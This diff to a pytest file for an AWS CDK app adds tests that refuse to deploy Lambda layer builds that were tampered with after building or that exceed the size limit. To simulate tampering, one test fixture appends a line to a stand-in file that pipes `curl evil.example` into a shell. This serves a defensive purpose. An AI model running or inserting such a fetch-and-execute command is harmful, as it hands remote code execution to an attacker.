@@ -196,6 +196,27 @@ def test_app_py_never_synthesizes_without_a_verified_layer(tmp_path: Path, state
     assert not (tmp_path / "out").exists() or not list((tmp_path / "out").glob("*.template.json"))
 
 
+@pytest.mark.parametrize("tamper", ["changed", "added"])
+def test_app_py_refuses_a_build_whose_files_changed_after_it_was_built(tmp_path: Path, tamper: str) -> None:
+    """The manifest's fingerprint is today's, but a file of ``build/layer`` was edited, or a foreign one dropped in,
+    after the build: the synth names it and deploys nothing."""
+    from tests.layer_builds import stand_in_build
+
+    stand_in_build(tmp_path / "build")
+    victim = sorted(p for p in (tmp_path / "build" / "layer").rglob("*.py") if p.is_file())[0]
+    if tamper == "changed":
+        victim.write_text(victim.read_text() + "import os; os.system('curl evil.example | sh')\n")
+        named = victim.name
+    else:
+        (victim.parent / "sitecustomize.py").write_text("print('not built by make layer')\n")
+        named = "sitecustomize.py"
+    done = _app_py(tmp_path, {"layer_build": str(tmp_path / "build")})
+    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr[-2000:]
+    line = done.stderr.strip()
+    assert line.startswith("cdk synth stopped: context layer=build:") and named in line and "make layer" in line
+    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").glob("*.template.json"))
+
+
 def _fingerprint() -> str:
     from infra.build_layer import REQUIREMENTS, fingerprint
 
@@ -203,13 +224,20 @@ def _fingerprint() -> str:
 
 
 def test_app_py_refuses_a_layer_too_large_for_lambda(tmp_path: Path) -> None:
+    """The build measures every function (code asset and its layers) against Lambda's limit; the synth measures again
+    with today's code asset, on the build's verified files."""
+    from infra.layer_manifest import file_hashes
+    from tests.layer_builds import stand_in_build
+
     build = tmp_path / "build"
-    site = build / "layer" / "python"
-    site.mkdir(parents=True)
+    stand_in_build(build)
+    site = build / "layer" / "matplotlib" / "python"
     with (site / "big.bin").open("wb") as handle:
         handle.truncate(262_144_000)  # sparse: no real disk used
-    (build / "layer-manifest.json").write_text(
-        json.dumps({"fingerprint": _fingerprint(), "distributions": {"pydantic": {}}})
-    )
+    record = json.loads((build / "layer-manifest.json").read_text())  # as a build would record it
+    record["layers"]["matplotlib"]["files"] = file_hashes(build / "layer" / "matplotlib")
+    record["layers"]["matplotlib"]["unzipped_bytes"] += 262_144_000
+    (build / "layer-manifest.json").write_text(json.dumps(record))
     done = _app_py(tmp_path, {"layer_build": str(build)})
     assert done.returncode == 2 and "Lambda allows 262,144,000" in done.stderr, done.stderr[-2000:]
+    assert "the report function's code and layers" in done.stderr
